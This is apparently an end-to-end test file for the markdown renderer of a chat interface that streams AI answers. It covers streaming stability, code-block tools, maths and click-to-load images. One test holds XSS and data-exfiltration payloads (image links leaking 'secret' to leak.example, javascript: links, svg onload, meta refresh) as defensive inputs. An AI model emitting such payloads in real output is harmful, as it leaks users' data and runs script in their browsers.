// Growing answers: nothing that is finished is touched again, whoever reads, selects or works in it.

import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';

import { expect, test } from '../support/test';
import { answerWith, script, type Step } from '../support/upstream';

const CORPUS = join(import.meta.dirname, '../../markdown/tests/corpus');

/** A text in pieces, as an upstream sends it. */
const pieces = (text: string, size: number, pause: number): Step[] =>
  (text.match(new RegExp(`[^]{1,${size}}`, 'gu')) ?? []).flatMap((delta): Step[] => [{ delta }, { pause }]);

const codeLines = (count: number, text = (n: number) => `let line_${n} = "text ${n}"; // ${n}\n`) =>
  Array.from({ length: count }, (_, n) => text(n)).join('');

/** What an answer looks like, but for what differs between one that was watched and one that was opened. */
const looks = (body: Element) => {
  const copy = body.cloneNode(true) as Element;
  for (const part of copy.querySelectorAll('.part')) part.replaceWith(...part.childNodes);
  // What was read again meanwhile ends with a mark of the page's own.
  return copy.innerHTML.replaceAll(' aria-expanded="true"', ' aria-expanded="false"').replace(/<!---->$/, '');
};

test('no node outside the growing end is removed or made anew', async ({ visitor }) => {
  const names = ['lists', 'table', 'code', 'nested', 'footnotes', 'alerts', 'maths'];
  const text = names.map((name) => readFileSync(join(CORPUS, `${name}.md`), 'utf8')).join('\n\n');
  await visitor.open();
  await visitor.ask(script({ delta: 'So:\n\n' }, { pause: 1000 }, ...pieces(text, 24, 2), { finish: 'stop' }, 'done'));
  // Every block that has another after it is finished; links and footnotes that are defined later may change within it.
  await visitor.text.evaluate((body) => {
    const marked = new Set<Element>();
    const lost: string[] = [];
    const look = () => {
      const blocks = [...body.querySelectorAll(':scope > .part > *')].slice(0, -1);
      for (const block of blocks) {
        marked.add(block);
        block.querySelectorAll('li, tr, span.line').forEach((part) => {
          if (part.nextElementSibling) marked.add(part);
        });
      }
      for (const block of marked) if (!block.isConnected) lost.push(block.outerHTML.slice(0, 200));
    };
    new MutationObserver(look).observe(body, { childList: true, subtree: true });
    Object.assign(window, { finished: () => ({ count: marked.size, lost }) });
  });
  await visitor.isComplete();
  const finished = await visitor.page.evaluate(() => (window as unknown as { finished(): { count: number; lost: string[] } }).finished());
  expect(finished.lost).toEqual([]);
  expect(finished.count).toBeGreaterThan(150);
});

test('a copy button keeps the focus while its block grows, and a finished line its colours', async ({ visitor, page }) => {
  await visitor.open();
  await visitor.ask(script(...pieces(`\`\`\`rust\n${codeLines(60)}\`\`\`\n\nDone.`, 30, 20), { finish: 'stop' }, 'done'));
  const block = visitor.text.locator('figure.code');
  await expect(block.locator('.line span.hl-keyword').first()).toBeVisible();
  await block.getByRole('button', { name: 'Copy' }).focus();
  await block.locator('.line').first().evaluate((line) => {
    const rest = line as HTMLElement & { changes?: number };
    rest.changes = 0;
    const observer = new MutationObserver((changes) => (rest.changes! += changes.length));
    observer.observe(line, { attributes: true, childList: true, subtree: true, characterData: true });
  });
  await expect(block.locator('.line')).toHaveCount(60);
  await visitor.isComplete();
  expect(await page.evaluate(() => document.activeElement?.className)).toBe('copy');
  expect(await block.locator('.line').first().evaluate((line) => (line as HTMLElement & { changes?: number }).changes)).toBe(0);
  await expect(block.locator('.line:last-child span.hl-comment')).toBeVisible();
});

test('a long block of code grows in parts, and is read, selected and coloured as one', async ({ visitor, page }) => {
  const lines = codeLines(300);
  await visitor.open();
  await visitor.ask(script(...pieces(`\`\`\`rust\n${lines}\`\`\`\n\nDone.`, 200, 5), { finish: 'stop' }, 'done'));
  const code = visitor.text.locator('figure.code code');
  await expect(code.locator('.line')).toHaveCount(300);
  await visitor.isComplete();
  expect(await code.locator(':scope > *').count()).toBeLessThan(100);
  expect(await code.evaluate((element) => element.textContent)).toBe(lines);
  const selected = await code.evaluate((element) => {
    getSelection()?.selectAllChildren(element);
    return getSelection()?.toString();
  });
  expect(selected?.trimEnd()).toBe(lines.trimEnd());
  await expect(page.locator('.line').nth(299).locator('span.hl-comment')).toBeVisible();
});

test('what streamed in looks like what is loaded, over all answers that the renderer is tested with', async ({ visitor }) => {
  test.slow();
  await visitor.open();
  const names = readdirSync(CORPUS).filter((name) => name.endsWith('.md'));
  for (let start = 0; start < names.length; start += 12) {
    const text = names.slice(start, start + 12).map((name) => readFileSync(join(CORPUS, name), 'utf8')).join('\n\n');
    await visitor.askAndRead(script(...pieces(text, 60, 1), { finish: 'stop' }, 'done'));
    const loaded = await visitor.page.request.get(visitor.page.url()).then((page) => page.text());
    const expected = await visitor.text.evaluate((body, [html, id]) => {
      const page = new DOMParser().parseFromString(html, 'text/html');
      return page.querySelector(`#${id} > .prose`)!.innerHTML;
    }, [loaded, `m-${await visitor.answerId()}`] as const);
    // The last colours come from beside the page.
    await expect.poll(() => visitor.text.evaluate(looks), { timeout: 30_000 }).toBe(expected);
  }
});

test('a long block is folded when it is opened, not while it is watched', async ({ visitor }) => {
  await visitor.open();
  await visitor.askAndRead(answerWith(`\`\`\`rust\n${codeLines(80)}\`\`\`\n\n\`\`\`rust\n${codeLines(10)}\`\`\`\n`));
  const long = visitor.text.locator('figure.code').first();
  const short = visitor.text.locator('figure.code').last();
  const height = () => long.locator('pre').evaluate((pre) => pre.getBoundingClientRect().height);
  const fold = long.getByRole('button', { name: 'Show all lines' });
  await expect(fold).toHaveAttribute('aria-expanded', 'true');
  expect(await height()).toBeGreaterThan(1200);
  await visitor.reload();
  await expect(fold).toHaveAttribute('aria-expanded', 'false');
  expect(await height()).toBeLessThan(600);
  await fold.click();
  // What the first click does may have to be fetched.
  await expect(fold).toHaveAttribute('aria-expanded', 'true');
  expect(await height()).toBeGreaterThan(1200);
  await expect(short.getByRole('button', { name: 'Show all lines' })).toBeHidden();
  await expect(long.locator('figcaption')).toHaveAttribute('data-lines', '80');
});

test('long lines wrap on demand, and a block is saved as a file of its language', async ({ visitor, page }) => {
  await visitor.open();
  await visitor.askAndRead(answerWith(`\`\`\`python\nprint("${'long '.repeat(60)}")\n\`\`\`\n`));
  const block = visitor.text.locator('figure.code');
  const isWide = () => block.locator('pre').evaluate((pre) => pre.scrollWidth > pre.clientWidth + 1);
  expect(await isWide()).toBe(true);
  await block.getByRole('button', { name: 'Wrap lines' }).click();
  await expect.poll(isWide).toBe(false);
  const saving = page.waitForEvent('download');
  await block.getByRole('button', { name: 'Download' }).click();
  const saved = await saving;
  expect(saved.suggestedFilename()).toBe('code.py');
  expect(readFileSync(await saved.path(), 'utf8')).toBe(`print("${'long '.repeat(60)}")\n`);
});

test('code is coloured beside the page, asks for each grammar once, and is plain where there is none', async ({ visitor, page }) => {
  const asked: string[] = [];
  page.context().on('request', (request) => asked.push(new URL(request.url()).pathname));
  await visitor.open();
  await visitor.askAndRead(answerWith('```klingon\nqapla\n```\n\n```..\nup\n```\n\n```klingon\nmajqa\n```\n\n```c++\nint x = 1;\n```\n'));
  await expect(visitor.text.locator('figure.code').last().locator('.hl-number')).toBeVisible();
  await expect(visitor.text.locator('figure.code').first().locator('.line span')).toHaveCount(0);
  const grammars = asked.filter((path) => path.startsWith('/grammars/')).map((path) => path.split('/').pop());
  expect(grammars.sort()).toEqual(['c%2B%2B', 'klingon']);
  // A grammar's expressions are compiled when they are first met, which must not hold up a frame.
  expect(page.workers().map((worker) => new URL(worker.url()).pathname)).toEqual(['/worker.js']);
});

test('formulas are typeset when they are whole, prices stay prices, and what is no formula shows its source', async ({ visitor }) => {
  await visitor.open();
  const text = 'With $a^2 + b^2 = c^2$ it costs $5 or $10.\n\n$$\\int_0^1 \\frac{x}{2}\\,dx = \\tfrac14$$\n\n\\[ \\begin{pmatrix} 1 & 2 \\\\ 3 & 4 \\end{pmatrix} \\]\n\nAnd $\\frac{1$ is none.\n';
  await visitor.askAndRead(answerWith(text));
  await expect(visitor.text.locator('.math math')).toHaveCount(3);
  await expect(visitor.text.locator('.math.display math mtable')).toHaveCount(1);
  await expect(visitor.text.locator('p').first()).toContainText('it costs $5 or $10.');
  await expect(visitor.text.locator('p').last()).toContainText('\\frac{1');
  await visitor.reload();
  await expect(visitor.text.locator('.math math')).toHaveCount(3);
});

test('half-written marks do not show', async ({ visitor }) => {
  await visitor.open();
  const text = 'Some points follow:\n- **The first** one, with [a link](https://example.org/a/long/address) and `code`.\n- The second\n\n| fruit | price |\n|---|---|\n| apple | 1 |\n';
  await visitor.ask(script(...pieces(text, 3, 80), { finish: 'stop' }, 'done'));
  await visitor.text.evaluate((body) => {
    const seen: string[] = [];
    new MutationObserver(() => seen.push(body.innerHTML)).observe(body, { childList: true, subtree: true, characterData: true });
    Object.assign(window, { seen });
  });
  await visitor.isComplete();
  await expect(visitor.text.locator('td')).toHaveText(['apple', '1']);
  const seen = await visitor.page.evaluate(() => (window as unknown as { seen: string[] }).seen);
  expect(seen.length).toBeGreaterThan(10);
  expect(seen.filter((html) => /<h\d|\*|\[|\]\(|`|\|/.test(html))).toEqual([]);
});

test('what is held back is shown when nothing comes any more', async ({ visitor }) => {
  await visitor.open();
  await visitor.ask(script({ delta: 'It is **very impor' }, 'stall'));
  await expect(visitor.text).toHaveText('It is **very impor');
});

test('nothing that a model writes is fetched, whatever form it takes', async ({ visitor, page }) => {
  const asked: string[] = [];
  page.context().on('request', (request) => asked.push(request.url()));
  await visitor.open();
  const leaks = [
    '![a](https://leak.example/?q=secret)',
    '![b][ref]\n\n[ref]: https://leak.example/?q=secret',
    '![c](<https://leak.example/?q=secret> "title")',
    '<img src="https://leak.example/?q=secret">',
    '<https://leak.example/?q=secret>',
    'https://leak.example/?q=secret',
    '[![d](https://leak.example/i)](https://leak.example/l)',
    '[e](javascript:alert(1)) [f](java&#x73;cript:alert(1)) [g](data:text/html,x) [h](//leak.example)',
    '<iframe src="https://leak.example"></iframe><svg onload=alert(1)><style>@import "https://leak.example"</style>',
    '<link rel=prefetch href=https://leak.example><meta http-equiv=refresh content="0;url=https://leak.example">',
  ];
  for (const size of [1, 7]) {
    await visitor.askAndRead(script(...pieces(leaks.join('\n\n'), size, 1), { finish: 'stop' }, 'done'));
    await expect(visitor.text.getByRole('button', { name: /leak\.example/ })).toHaveCount(3);
    await expect(visitor.text.locator('img, iframe, svg, style, link, meta, [onload]')).toHaveCount(0);
  }
  await visitor.reload();
  expect(asked.filter((url) => url.includes('leak.example'))).toEqual([]);
});

test('an image is loaded by a click, and by nothing else', async ({ visitor, page, inglenook }) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(new URL(request.url()).pathname));
  await visitor.open();
  await visitor.askAndRead(answerWith(`Look: ![a flame](${inglenook.url}/icon.svg?big)\n`));
  const placeholder = visitor.text.getByRole('button', { name: 'a flame' });
  await expect(placeholder).toContainText('127.0.0.1');
  const before = asked.filter((path) => path === '/icon.svg').length;
  await placeholder.click();
  await expect(visitor.text.getByRole('img', { name: 'a flame' })).toBeVisible();
  await expect.poll(() => asked.filter((path) => path === '/icon.svg').length).toBe(before + 1);
});

test('an image that cannot be loaded says so, and can be asked for again', async ({ visitor, page, inglenook }) => {
  let isThere = false;
  const address = `${inglenook.url}/icon.svg?late`;
  await page.route(address, (route) => (isThere ? route.continue() : route.fulfill({ body: 'no image' })));
  await visitor.open();
  await visitor.askAndRead(answerWith(`Look: ![](${address})\n`));
  const placeholder = visitor.text.getByRole('button', { name: '127.0.0.1' });
  await placeholder.focus();
  await page.keyboard.press('Enter');
  await expect(placeholder).toHaveAttribute('data-failed', '');
  await expect(placeholder).toBeFocused();
  isThere = true;
  await page.keyboard.press('Enter');
  await expect(visitor.text.locator('img')).toBeFocused();
  await expect(placeholder).toHaveCount(0);
});
